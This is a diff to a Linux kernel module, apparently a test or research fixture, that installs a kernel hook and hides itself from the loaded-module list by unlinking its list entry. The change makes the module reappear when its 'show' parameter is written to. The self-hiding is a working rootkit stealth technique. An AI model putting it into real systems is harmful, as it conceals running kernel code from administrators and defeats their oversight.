@@ -4,8 +4,8 @@
  * and has itself called by something of the kernel's
  *
  * insmod hidden_hook.ko [how=netfilter|notifier|kprobe|ftrace|thread] [show=1]
- * [back=SECONDS]: after so long it is in the list again, and rmmod takes the hook
- * away. With show it stays in the list.
+ * With show it stays in the list; and when 1 is written to that parameter's file it is
+ * there again, so that rmmod takes the hook away.
  */
 #include <linux/ftrace.h>
 #include <linux/kprobes.h>
@@ -14,23 +14,31 @@
 #include <linux/netfilter.h>
 #include <linux/netfilter_ipv4.h>
 #include <linux/reboot.h>
-#include <linux/workqueue.h>
 #include <net/net_namespace.h>
 
 static char *how = "";
 module_param(how, charp, 0);
 MODULE_PARM_DESC(how, "who is to call it");
 
-static unsigned int back;
-module_param(back, uint, 0);
-MODULE_PARM_DESC(back, "seconds until it shows itself again, 0 never");
+static struct list_head *before;	/* where it was in the list; NULL: it is there */
 
 static bool show;
-module_param(show, bool, 0);
-MODULE_PARM_DESC(show, "do not hide");
 
-static struct list_head *before;
-static struct delayed_work return_work;
+static int set_show(const char *value, const struct kernel_param *kp)
+{
+	int rc = param_set_bool(value, kp);
+
+	if (!rc && show && before) {
+		list_add_rcu(&THIS_MODULE->list, before);
+		before = NULL;
+	}
+	return rc;
+}
+
+static const struct kernel_param_ops show_ops = { .set = set_show, .get = param_get_bool };
+module_param_cb(show, &show_ops, &show, 0600);
+MODULE_PARM_DESC(show, "do not hide; or no longer");
+
 static struct task_struct *thread;
 
 static unsigned int on_packet(void *priv, struct sk_buff *skb, const struct nf_hook_state *state)
@@ -109,23 +117,14 @@ static void unhook(void)
 		kthread_stop(thread);
 }
 
-static void come_back(struct work_struct *work)
-{
-	list_add_rcu(&THIS_MODULE->list, before);
-	before = NULL;
-}
-
 static int __init hidden_hook_init(void)
 {
 	int rc = hook();
 
 	if (rc || show)
 		return rc;
-	INIT_DELAYED_WORK(&return_work, come_back);
 	before = THIS_MODULE->list.prev;
 	list_del_rcu(&THIS_MODULE->list);
-	if (back)
-		schedule_delayed_work(&return_work, back * HZ);
 	return 0;
 }
 
